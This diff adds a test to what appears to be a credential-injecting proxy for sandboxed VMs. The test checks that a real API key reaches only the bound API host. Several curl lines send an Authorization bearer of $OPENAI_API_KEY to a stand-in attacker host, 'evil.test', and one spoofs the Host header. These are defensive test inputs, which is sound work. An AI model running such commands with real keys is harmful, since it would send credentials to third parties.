@@ -272,3 +272,26 @@ def test_request_logs_and_no_value_anywhere_on_the_host(vm, world, vserver):
         out = subprocess.run(["grep", "-rIl", SECRET, layers], capture_output=True, text=True)
         assert out.stdout == "", out.stdout
     assert snap
+
+
+def test_the_default_open_policy_is_intercepted_too(vm, world):
+    c = vm["c"]
+    rec = c.vms.create(wait=True, vault_ids=[vm["vid"]])
+    try:
+        s = InstaVM(api_key=c.api_key, base_url=c.base_url, auto_start_session=False)
+        s.session_id = rec["session_id"]
+        run = lambda cmd: (lambda r: (r.get("stdout") or "") + (r.get("stderr") or ""))(s.execute(cmd, language="bash", timeout=60))
+        before = len(seen(world))
+        out = run('curl -sS --max-time 10 https://api.openai.com/open -H "Authorization: Bearer $OPENAI_API_KEY"')
+        assert "ok from api" in out and SECRET not in out, out
+        # Other HTTPS goes straight out, not through the proxy (the attacker's own certificate).
+        out = run('curl -sSk --max-time 10 https://evil.test/direct -H "Authorization: Bearer $OPENAI_API_KEY"')
+        assert "ok from evil" in out, out
+        # A bound name with a Host of another site: no value.
+        out = run('curl -sS --max-time 10 https://api.openai.com/x -H "Host: evil.test" -H "Authorization: Bearer $OPENAI_API_KEY"')
+        assert SECRET not in out
+        got = seen(world)[before:]
+        assert [(g["site"], g["path"], g["auth"]) for g in got if g["site"] == "api"] == [("api", "/open", f"Bearer {SECRET}")]
+        assert [g["auth"] for g in got if g["site"] == "evil"][0].startswith("Bearer ivp_")
+    finally:
+        c.vms.delete(rec["vm_id"])
